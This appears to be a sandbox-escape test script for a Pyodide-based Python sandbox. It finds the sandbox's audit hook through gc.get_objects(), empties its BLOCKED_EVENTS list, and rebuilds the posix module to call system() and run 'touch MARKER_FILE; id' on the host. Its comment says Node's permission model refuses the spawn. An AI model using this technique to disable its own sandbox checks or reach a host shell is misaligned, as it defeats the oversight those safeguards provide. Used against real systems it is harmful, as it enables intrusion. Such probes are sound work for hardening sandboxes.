# Route (gets past the Python-level blocks, and reaches JavaScript without touching Pyodide's FFI):
# the sandbox's audit hook is a Python function that looks its refusals up in its module's globals,
# which gc.get_objects() hands out; emptying BLOCKED_EVENTS silences it. A fresh `posix` from
# _imp.create_builtin still has the C system(), which Emscripten implements in JavaScript with
# child_process.spawnSync. Its import is named `system`/`_emscripten_system`, outside the old
# /js|proxy|hiwire/ pattern, so only a default-deny tripwire sees it; Node's permission model
# refuses the spawn.
import _imp
import gc
import importlib.machinery

for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") == "_audit" and "BLOCKED_EVENTS" in getattr(obj, "__globals__", {}):
        obj.__globals__["BLOCKED_EVENTS"].clear()
posix = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("posix"))
status = posix.system(f"touch {MARKER_FILE}; id")
print(f"ESCAPED: system() ran a host shell (status {status})")
